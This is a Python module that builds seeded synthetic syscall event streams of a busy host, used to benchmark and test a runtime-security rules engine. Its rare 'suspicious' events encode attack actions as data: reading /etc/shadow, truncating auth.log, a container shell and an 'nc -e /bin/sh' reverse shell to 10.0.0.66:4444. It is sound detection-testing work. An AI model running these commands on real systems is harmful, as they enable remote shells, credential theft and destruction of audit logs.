"""Synthetic event streams of a busy host, as the state stage would hand them to the rules.

`build_stream("host", n)` mixes execve (10%), openat (70%) and connect (20%) over a process tree built
like the state builds it: parents (`proc.aname`), argv, cwd, users, some processes in containers, open
files and sockets as `Fd`s. Used by the rules benchmarks (bench/rules_throughput.py,
bench/replay_throughput.py) and by the tests that compare the engine with a reference over many events.

Why the "host" stream looks the way it does: on a real host almost every event is routine and matches
no rule. Programs do what they are: shells under sshd run coreutils and git, nginx workers (www-data)
read their docroot and append to their logs, postgres reads and writes its data files, containers run
their app; opens are mostly of libraries, configs, /proc files and data files; logs are opened for
appending, not truncated; connects come from programs that talk to the network (curl, python3, node,
nginx, git, ssh) and include DNS to the local resolver. Some paths are unique per event (temp files,
/proc/<pid> entries). On top of that, a small share of events (`suspicious`, default 0.1%) is one of
the actions the rules exist to catch: `cat /etc/shadow`, `ls` connecting out, a shell spawned in a
container, a log truncated, ... The earlier stream ("legacy") drew every program, path and peer
uniformly, so 13% of events alerted against Falco's rules (`ls` connecting to 8.8.8.8, any process
reading /etc/shadow, logs opened with O_TRUNC); it is kept to compare against.

The same seed gives the same stream.
"""

from __future__ import annotations

import random

from tiercel.events.model import Container, Event, Process
from tiercel.testing.events import (
    O_APPEND,
    O_CLOEXEC,
    O_CREAT,
    O_DIRECTORY,
    O_RDONLY,
    O_RDWR,
    O_TRUNC,
    O_WRONLY,
    connect,
    container,
    dir_fd,
    execve,
    file_fd,
    inet,
    openat,
    process,
    socket_fd,
)

USERS = {0: "root", 1000: "ci", 33: "www-data", 999: "postgres"}

# What every dynamically linked program opens, and what each kind of program opens besides.
COMMON_READS = ["/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/locale/locale-archive",
                "/usr/lib/x86_64-linux-gnu/libpthread.so.0", "/etc/nsswitch.conf", "/etc/passwd",
                "/proc/self/stat", "/proc/meminfo", "/sys/fs/cgroup/cpu.max", "/etc/localtime"]
READS = {
    "bash": ["/root/.bashrc", "/etc/bash.bashrc", "/usr/share/terminfo/x/xterm-256color", "/home/ci/repo"],
    "python3": ["/usr/lib/python3.11/os.py", "/srv/app/app.py", "/srv/app/settings.py", "/etc/hosts",
                "/usr/lib/python3/dist-packages/yaml/__init__.py", "/etc/ssl/certs/ca-certificates.crt"],
    "node": ["/srv/app/server.js", "/srv/app/node_modules/express/index.js", "/etc/hosts"],
    "nginx": ["/var/www/html/index.html", "/var/www/html/static/app.css", "/etc/nginx/nginx.conf"],
    "postgres": ["/var/lib/postgresql/15/main/base/16384/2619",
                 "/var/lib/postgresql/15/main/global/pg_control"],
    "git": ["/home/ci/repo/.git/HEAD", "/home/ci/repo/.git/index", "/home/ci/repo/.git/config",
            "/home/ci/repo/src/main.c", "/home/ci/.gitconfig"],
    "curl": ["/etc/ssl/certs/ca-certificates.crt", "/etc/hosts", "/etc/resolv.conf", "/etc/gai.conf"],
}
WRITES = {
    "bash": [("/home/ci/.bash_history", O_WRONLY | O_APPEND | O_CREAT)],
    "python3": [("/tmp/tmp{r}", O_RDWR | O_CREAT | O_TRUNC), ("/var/lib/app/data.db", O_RDWR)],
    "node": [("/var/log/app/app.log", O_WRONLY | O_APPEND | O_CREAT)],
    "nginx": [("/var/log/nginx/access.log", O_WRONLY | O_APPEND | O_CREAT),
              ("/var/lib/nginx/body/{r}", O_RDWR | O_CREAT | O_TRUNC)],
    "postgres": [("/var/lib/postgresql/15/main/pg_wal/000000010000000000000042", O_RDWR),
                 ("/var/lib/postgresql/15/main/base/16384/{r}", O_RDWR | O_CREAT)],
    "git": [("/home/ci/repo/.git/index.lock", O_RDWR | O_CREAT | O_TRUNC),
            ("/home/ci/repo/.git/objects/{r}", O_WRONLY | O_CREAT | O_TRUNC)],
    "gcc": [("/tmp/cc{r}.o", O_RDWR | O_CREAT | O_TRUNC)],
}
TALKERS = {"curl", "python3", "node", "nginx", "git", "ssh"}
PEERS = [("10.0.0.5", 443, "tcp"), ("10.0.0.9", 5432, "tcp"), ("172.17.0.2", 6379, "tcp"),
         ("93.184.216.34", 443, "tcp"), ("140.82.112.3", 443, "tcp"), ("127.0.0.53", 53, "udp"),
         ("127.0.0.1", 8080, "tcp")]
SHELL_CHILDREN = [("/usr/bin/ls", ["-la"]), ("/usr/bin/cat", ["README.md"]),
                  ("/usr/bin/grep", ["-rn", "TODO", "."]), ("/usr/bin/git", ["status"]),
                  ("/usr/bin/python3", ["manage.py", "test"]),
                  ("/usr/bin/make", ["-j2"]), ("/usr/bin/gcc", ["-c", "main.c"]), ("/usr/bin/sleep", ["1"]),
                  ("/usr/bin/curl", ["-s", "https://example.com/"]), ("/usr/bin/ssh", ["git@github.com"])]
PG = ("/usr/lib/postgresql/15/bin/postgres", ["-D", "/var/lib/postgresql/15/main"])
CONTAINER_APPS = [("/usr/local/bin/node", ["server.js"]), ("/usr/local/bin/python3", ["app.py"]),
                  ("/usr/sbin/nginx", ["-g", "daemon off;"])]

# Legacy (uniform) stream, kept for comparison with earlier figures.
LEGACY_READS = ["/etc/passwd", "/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/proc/self/stat",
                "/etc/hosts", "/etc/resolv.conf", "/usr/share/zoneinfo/UTC", "/var/lib/app/data.db",
                "/etc/nsswitch.conf", "/proc/meminfo", "/sys/fs/cgroup/cpu.max", "/etc/shadow"]
LEGACY_WRITES = ["/tmp/build-1234.o", "/var/log/app.log", "/home/ci/.cache/pip/x", "/var/lib/app/data.db",
                 "/run/app.pid", "/tmp/sess_abc", "/etc/app/conf.yaml", "/dev/shm/lock"]
LEGACY_PROGRAMS = [("/usr/bin/ls", ["-la"]), ("/usr/bin/cat", ["/etc/hosts"]), ("/usr/bin/grep", ["-r", "x"]),
                   ("/usr/bin/python3", ["app.py"]), ("/usr/sbin/nginx", ["-g", "daemon off;"]),
                   ("/usr/bin/curl", ["-s", "http://10.0.0.5/"]), ("/bin/sh", ["-c", "date"]),
                   ("/usr/bin/git", ["status"]), ("/usr/bin/node", ["server.js"]), ("/usr/bin/sleep", ["1"])]
LEGACY_PEERS = [("10.0.0.5", 443), ("10.0.0.9", 5432), ("172.17.0.2", 6379), ("8.8.8.8", 53),
                ("93.184.216.34", 80), ("127.0.0.1", 8080)]


def _proc(pid: int, parent: Process | None, exe: str, args: list[str], uid: int = 0, cwd: str = "/",
          container: Container | None = None) -> Process:
    return process(pid=pid, parent=parent, exe=exe, exepath=exe, args=args, cwd=cwd, uid=uid, gid=uid,
                   user=USERS[uid], loginuid=-1 if uid != 1000 else 1000, container=container)


def build_processes(rng: random.Random, n: int) -> list[Process]:
    """A host's process tree: sshd sessions with shells, cron, nginx, postgres, app containers.

    The first four entries are infrastructure (systemd, sshd, cron, containerd-shim); events are
    drawn from the rest.
    """
    init = _proc(1, None, "/sbin/init", [])
    init.comm = "systemd"
    sshd, cron = _proc(10, init, "/usr/sbin/sshd", ["-D"]), _proc(11, init, "/usr/sbin/cron", ["-f"])
    shim = _proc(12, init, "/usr/bin/containerd-shim-runc-v2", ["-namespace", "moby"])
    containers = [container(f"{rng.getrandbits(48):012x}", name=f"app-{i}",
                            image=f"registry.local/app{i}:1.0", image_repository=f"registry.local/app{i}",
                            image_tag="1.0", type="docker")
                  for i in range(5)]
    procs = [init, sshd, cron, shim]
    pid = 1000
    nginx = _proc(pid, init, "/usr/sbin/nginx", ["-g", "daemon on; master_process on;"])
    postgres = _proc(pid + 1, init, PG[0], PG[1], uid=999)
    postgres.comm = "postgres"
    procs += [nginx, postgres]
    pid += 2
    shells: list[Process] = []
    while len(procs) < n + 4:
        pid += 1
        kind = rng.random()
        if kind < 0.15:                                   # an ssh session: sshd (privsep) -> bash
            uid = rng.choice([0, 1000, 1000])
            session = _proc(pid, sshd, "/usr/sbin/sshd", ["-D", "-R"], uid=uid)
            pid += 1
            shell = _proc(pid, session, "/bin/bash", [], uid=uid, cwd="/home/ci/repo/" if uid else "/root/")
            procs += [session, shell]
            shells.append(shell)
        elif kind < 0.55 and shells:                      # a command run from a shell
            sh = rng.choice(shells)
            exe, args = rng.choice(SHELL_CHILDREN)
            procs.append(_proc(pid, sh, exe, list(args), uid=sh.uid, cwd=sh.cwd))
        elif kind < 0.65:                                 # a cron job: cron -> sh -c -> run-parts
            sh = _proc(pid, cron, "/bin/sh", ["-c", "run-parts /etc/cron.hourly"])
            pid += 1
            procs += [sh, _proc(pid, sh, "/usr/bin/run-parts", ["/etc/cron.hourly"])]
        elif kind < 0.75:
            procs.append(_proc(pid, nginx, nginx.exe, nginx.args, uid=33))
        elif kind < 0.85:
            w = _proc(pid, postgres, PG[0], PG[1], uid=999)
            w.comm = "postgres"
            procs.append(w)
        else:                                             # an app in a container
            c = rng.choice(containers)
            exe, args = rng.choice(CONTAINER_APPS)
            procs.append(_proc(pid, shim, exe, args, cwd="/srv/app/", container=c))
    return procs[:n + 4]


def _fill(path: str, rng: random.Random) -> str:
    return path.replace("{r}", f"{rng.getrandbits(32):08x}") if "{r}" in path else path


def make_event(rng: random.Random, num: int, ts: int, procs: list[Process],
               suspicious: float = 0.001) -> Event:
    """One routine event of a busy host; with probability `suspicious`, one the rules should catch."""
    if rng.random() < suspicious:
        return _suspicious(rng, num, ts, procs)
    proc = rng.choice(procs[4:])
    roll = rng.random()
    if roll < 0.10:
        return _execve(num, ts, proc, proc.exe, proc.args)
    if roll < 0.30 and proc.comm in TALKERS:
        sip, sport, l4 = rng.choice(PEERS)
        return _connect(rng, num, ts, proc, sip, sport, l4)
    if roll < 0.30:      # a connect-heavy share: drawn again among the programs that talk
        talker = rng.choice([p for p in procs[4:200] if p.comm in TALKERS] or procs[4:])
        sip, sport, l4 = rng.choice(PEERS)
        return _connect(rng, num, ts, talker, sip, sport, l4)
    own_writes = WRITES.get(proc.comm, [])
    if own_writes and rng.random() < 0.25:
        path, flags = rng.choice(own_writes)
        return _openat(num, ts, proc, _fill(path, rng), flags | O_CLOEXEC)
    r = rng.random()
    if r < 0.08:
        path = f"/proc/{rng.choice(procs).pid}/stat"
    else:
        path = rng.choice(READS.get(proc.comm, []) + COMMON_READS if r < 0.6 else COMMON_READS)
    flags = O_RDONLY | O_CLOEXEC | (O_DIRECTORY if path == "/home/ci/repo" else 0)
    return _openat(num, ts, proc, path, flags, "d" if flags & O_DIRECTORY else "f")


def _suspicious(rng: random.Random, num: int, ts: int, procs: list[Process]) -> Event:
    shells = [p for p in procs if p.comm == "bash"] or procs[4:]
    app = [p for p in procs if p.container is not None] or procs[4:]
    sh, pid = rng.choice(shells), 900_000 + num
    kind = rng.randrange(5)
    if kind == 0:
        cat = _proc(pid, sh, "/usr/bin/cat", ["/etc/shadow"], uid=sh.uid)
        return _openat(num, ts, cat, "/etc/shadow", O_RDONLY | O_CLOEXEC)
    if kind == 1:
        ls = _proc(pid, sh, "/usr/bin/ls", [], uid=sh.uid)
        return _connect(rng, num, ts, ls, "93.184.216.34", 443, "tcp")
    if kind == 2:
        return _openat(num, ts, sh, "/var/log/auth.log", O_WRONLY | O_TRUNC)
    parent = rng.choice(app)
    child = _proc(pid, parent, "/bin/sh" if kind == 3 else "/usr/bin/nc", ["-i"] if kind == 3 else
                  ["-e", "/bin/sh", "10.0.0.66", "4444"], container=parent.container)
    child.tty = 34816 if kind == 3 else 0
    if kind == 3:
        child.parent = _proc(pid + 1, None, "/usr/bin/runc", ["exec"], container=parent.container)
        child.parent.comm = "runc:[1:CHILD]"
    return _execve(num, ts, child, child.exe, child.args)


def _execve(num: int, ts: int, proc: Process, exe: str, args: list[str]) -> Event:
    return execve(exe, args, exe=exe, proc=proc, num=num, ts=ts)


def _openat(num: int, ts: int, proc: Process, path: str, flags: int, typechar: str = "f") -> Event:
    n = 3 + num % 60
    fd = dir_fd(path, n, flags=flags) if typechar == "d" else file_fd(path, n, flags=flags)
    return openat(path, flags=flags, mode=0o644, res=n, fd=fd, proc=proc, num=num, ts=ts)


def _connect(rng: random.Random, num: int, ts: int, proc: Process, sip: str, sport: int, l4: str) -> Event:
    if proc.comm == "ssh" and sport != 22:
        sip, sport, l4 = "140.82.112.3", 22, "tcp"                # ssh talks to ssh servers
    cip = "127.0.0.1" if sip.startswith("127.") else "10.0.0.2"
    n = 3 + num % 60
    fd = socket_fd(n, cip=cip, cport=rng.randint(32768, 60999), sip=sip, sport=sport, l4proto=l4)
    return connect(n, inet(sip, sport), fd=fd, proc=proc, num=num, ts=ts)


def build_legacy_processes(rng: random.Random, n: int) -> list[Process]:
    """The earlier, uniform process tree (any program under any parent, any user)."""
    init = process("systemd", pid=1, exe="/sbin/init", exepath="/usr/lib/systemd/systemd")
    roots = [process(c, pid=10 + i, exe=e, exepath=e, parent=init)
             for i, (c, e) in enumerate([("sshd", "/usr/sbin/sshd"), ("containerd-shim",
                                          "/usr/bin/containerd-shim-runc-v2"), ("cron", "/usr/sbin/cron")])]
    containers = [container(f"{rng.getrandbits(48):012x}", name=f"app-{i}", image="nginx:1.25",
                            image_repository="nginx", image_tag="1.25", type="docker") for i in range(5)]
    procs = [init, *roots]
    for i in range(n):
        parent = rng.choice(procs[1:])
        exe, args = rng.choice(LEGACY_PROGRAMS)
        in_container = parent.comm == "containerd-shim" or (parent.container is not None)
        c = rng.choice(containers) if in_container else None
        uid = rng.choice([0, 1000, 33])
        procs.append(process(pid=1000 + i, parent=parent, exe=exe, exepath=exe, args=args, uid=uid, gid=uid,
                             cwd=rng.choice(["/", "/root/", "/home/ci/", "/srv/app/"]), user=USERS[uid],
                             container=c, loginuid=rng.choice([-1, 1000])))
    return procs


def make_legacy_event(rng: random.Random, num: int, ts: int, procs: list[Process]) -> Event:
    """The earlier, uniform event: any program opens any path, connects anywhere (13% alert)."""
    proc = rng.choice(procs[4:])
    roll = rng.random()
    if roll < 0.10:
        exe, args = rng.choice(LEGACY_PROGRAMS)
        return _execve(num, ts, proc, exe, args)
    if roll < 0.80:
        write = rng.random() < 0.25
        path = rng.choice(LEGACY_WRITES if write else LEGACY_READS)
        ev = _openat(num, ts, proc, path, (O_WRONLY | O_CREAT | O_TRUNC if write else O_RDONLY) | O_CLOEXEC)
        ev.fd.num = ev.res = ev.args["fd"] = rng.randint(3, 60)  # type: ignore[union-attr]
        return ev
    sip, sport = rng.choice(LEGACY_PEERS)
    return _connect(rng, num, ts, proc, sip, sport, "tcp")


def build_stream(kind: str, size: int, seed: int = 7, suspicious: float = 0.001) -> list[Event]:
    """`size` events of the "host" stream (or the "legacy" one) over a tree of 400 processes."""
    rng = random.Random(seed)
    start_ts = 1_700_000_000_000_000_000
    if kind == "legacy":
        procs = build_legacy_processes(rng, 400)
        return [make_legacy_event(rng, i + 1, start_ts + i * 1000, procs) for i in range(size)]
    procs = build_processes(rng, 400)
    return [make_event(rng, i + 1, start_ts + i * 1000, procs, suspicious) for i in range(size)]
